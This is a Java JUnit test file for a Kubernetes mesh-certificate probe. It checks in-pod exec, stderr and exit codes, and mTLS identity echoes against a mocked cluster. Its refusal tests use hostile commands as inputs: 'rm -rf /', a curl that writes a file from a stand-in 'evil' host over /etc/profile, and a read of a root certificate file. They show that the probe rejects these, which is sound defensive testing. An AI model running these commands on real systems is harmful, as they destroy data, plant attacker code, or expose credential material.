package dev.meshcert.kube;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.meshcert.faults.ExecScripts;
import dev.meshcert.probe.Experiment;
import dev.meshcert.probe.InPodProbe;
import dev.meshcert.probe.Outcome;
import dev.meshcert.probe.ProbeTarget;
import java.io.IOException;
import java.io.InputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The probe's way into pods against the fabric8 mock: exec (v4 channel: stdout, stderr and the exit
 * status) answering with curl output captured from real runs, and port-forward streams.
 */
class ProbeExecTest {
  private static final String NS = "bookinfo";
  private static final String POD = "productpage-v1-abc";
  private static final ProbeTarget DETAILS = ProbeTarget.of("details", 9080);
  private MockCluster cluster;

  @BeforeEach
  void start() {
    cluster = new MockCluster();
  }

  @AfterEach
  void stop() {
    cluster.close();
  }

  private static String execPath(String container, List<String> command) {
    StringBuilder b =
        new StringBuilder(
            "/api/v1/namespaces/"
                + NS
                + "/pods/"
                + POD
                + "/exec?stdin=false&stdout=true&stderr=true&tty=false&container="
                + container);
    for (String c : command) {
      b.append("&command=")
          .append(URLEncoder.encode(c, StandardCharsets.UTF_8).replace("+", "%20"));
    }
    return b.toString();
  }

  private record Captured(String output, int exit) {}

  private static Captured capture(String resource) throws IOException {
    try (InputStream in = ProbeExecTest.class.getResourceAsStream(resource)) {
      String text = new String(in.readAllBytes(), StandardCharsets.UTF_8);
      int at = text.lastIndexOf("exit=");
      return new Captured(text.substring(0, at), Integer.parseInt(text.substring(at + 5).trim()));
    }
  }

  private void expectExec(String container, List<String> command, String stdout, Captured err) {
    cluster.answerOnce(
        execPath(container, command), ExecScripts.prints(stdout, err.output(), err.exit()));
  }

  @Test
  void execReturnsStderrAndTheExitCodeOfAFailedCommand() throws Exception {
    Captured c = capture("/probe/curl/tls-no-cert.txt");
    List<String> command =
        InPodProbe.command(
            InPodProbe.Tool.CURL, Experiment.TLS_NO_CLIENT_CERT, DETAILS, Optional.empty());
    expectExec("istio-proxy", command, "", c);
    try (ClusterSession s = cluster.session(Optional.empty())) {
      ProbeExec.ExecResult r =
          s.probeExec()
              .orElseThrow()
              .exec(NS, POD, "istio-proxy", command, Duration.ofSeconds(10), Cancellation.none());
      assertEquals(56, r.exitCode());
      assertEquals(c.output(), r.stderr());
      assertEquals("", r.stdout());
    }
  }

  @Test
  void execRefusesAToolOutsideTheAllowedOnesWithoutARequest() throws Exception {
    try (ClusterSession s = cluster.session(Optional.empty())) {
      KubeException e =
          assertThrows(
              KubeException.class,
              () ->
                  s.probeExec()
                      .orElseThrow()
                      .exec(
                          NS,
                          POD,
                          "app",
                          List.of("sh", "-c", "rm -rf /"),
                          Duration.ofSeconds(5),
                          Cancellation.none()));
      assertInstanceOf(KubeFailure.NotSupported.class, e.failure());
    }
    assertEquals(List.of(), cluster.requests());
  }

  @Test
  void execRefusesAnAllowedToolWithOtherArgumentsWithoutARequest() throws Exception {
    try (ClusterSession s = cluster.session(Optional.empty())) {
      KubeException e =
          assertThrows(
              KubeException.class,
              () ->
                  s.probeExec()
                      .orElseThrow()
                      .exec(
                          NS,
                          POD,
                          "app",
                          List.of("curl", "-o", "/etc/profile", "http://evil/"),
                          Duration.ofSeconds(5),
                          Cancellation.none()));
      assertInstanceOf(KubeFailure.NotSupported.class, e.failure());
    }
    assertEquals(List.of(), cluster.requests());
  }

  @Test
  void refusedExecIsForbidden() throws Exception {
    cluster.respond("/api/v1/namespaces/bookinfo/pods/productpage-v1-abc/exec", 403);
    try (ClusterSession s = cluster.session(Optional.empty())) {
      KubeException e =
          assertThrows(
              KubeException.class,
              () ->
                  s.probeExec()
                      .orElseThrow()
                      .exec(
                          NS,
                          POD,
                          "istio-proxy",
                          List.of("cat", "/etc/certs/root-cert.pem"),
                          Duration.ofSeconds(5),
                          Cancellation.none()));
      assertInstanceOf(KubeFailure.Forbidden.class, e.failure());
    }
  }

  @Test
  void throughTheMeshReadsTheClientIdentityTheServerEchoes() throws Exception {
    String body =
        "{\"headers\": {\"Host\": \"httpbin:8000\", \"X-Forwarded-Client-Cert\":"
            + " \"By=spiffe://cluster.local/ns/foo/sa/httpbin;Hash=4f1d;Subject=\\\"\\\";"
            + "URI=spiffe://cluster.local/ns/bookinfo/sa/bookinfo-productpage\"}}\n";
    ProbeTarget httpbin =
        new ProbeTarget(
            "httpbin.foo",
            8000,
            Optional.empty(),
            "/headers",
            Optional.empty(),
            Duration.ofSeconds(3),
            Duration.ofSeconds(5));
    expectExec("app", InPodProbe.meshCommand(httpbin), body, capture("/probe/curl/plain-ok.txt"));
    try (ClusterSession s = cluster.session(Optional.empty())) {
      InPodProbe.MeshHop hop =
          new InPodProbe(
                  new dev.meshcert.probe.ExecCommandRunner(
                      s.probeExec().orElseThrow(), Cancellation.none()))
              .throughMesh(NS, POD, "app", httpbin);
      assertEquals(
          Outcome.MESH_MTLS_CONFIRMED, hop.result().outcome(), hop.result().transcriptText());
      assertEquals(
          Optional.of("spiffe://cluster.local/ns/bookinfo/sa/bookinfo-productpage"),
          hop.forwardedClientCert().orElseThrow().clientUri());
    }
  }
}
